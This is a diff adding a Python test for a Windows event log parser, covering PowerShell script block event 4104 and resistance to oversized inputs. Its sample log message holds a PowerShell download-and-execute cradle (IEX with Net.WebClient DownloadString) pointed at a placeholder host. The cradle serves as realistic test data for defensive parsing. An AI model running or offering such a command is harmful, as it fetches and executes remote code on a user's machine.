@@ -80,6 +80,32 @@ def test_4648_and_1102():
     assert (f["SubjectUserName"], f["SubjectDomainName"], f["SubjectLogonId"]) == ("admin", "CORP", "0x5B3D1F2")
 
 
+def test_powershell_4104_script_block_from_its_template():
+    m = (
+        "Creating Scriptblock text (1 of 1):\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"
+        "ScriptBlock ID: imitated\r\n\r\nScriptBlock ID: 6a1c4e0b-1d2e-4f00-9a1b-1c2d3e4f5a6b\r\nPath: C:\\a.ps1"
+    )
+    f = parse("Microsoft-Windows-PowerShell/Operational", None, 4104, m)
+    assert (
+        f["ScriptBlockText"]
+        == "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\nScriptBlock ID: imitated"
+    )
+    assert (f["ScriptBlockId"], f["Path"], f["MessageTotal"]) == (
+        "6a1c4e0b-1d2e-4f00-9a1b-1c2d3e4f5a6b",
+        "C:\\a.ps1",
+        "1",
+    )
+    layout = layout_for("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104)
+    assert layout is not None
+    started = time.perf_counter()
+    for hostile in [
+        "Creating Scriptblock text (1 of 1):\n" + "\n" * 300_000,
+        "Creating Scriptblock text (1 of 1):\n" + "\nScriptBlock ID: x\nPath: y\nz" * 20_000,
+    ]:
+        assert fields_from_message(layout, hostile) == {}
+    assert time.perf_counter() - started < 3.0
+
+
 def test_rendered_values_turn_back_into_raw_ids():
     m = "A directory service object was modified.\n\nOperation:\n\tType:\t\tValue Added\n\tCorrelation ID:\t{1}"
     assert parse(*SECURITY, 5136, m)["OperationType"] == "%%14674"
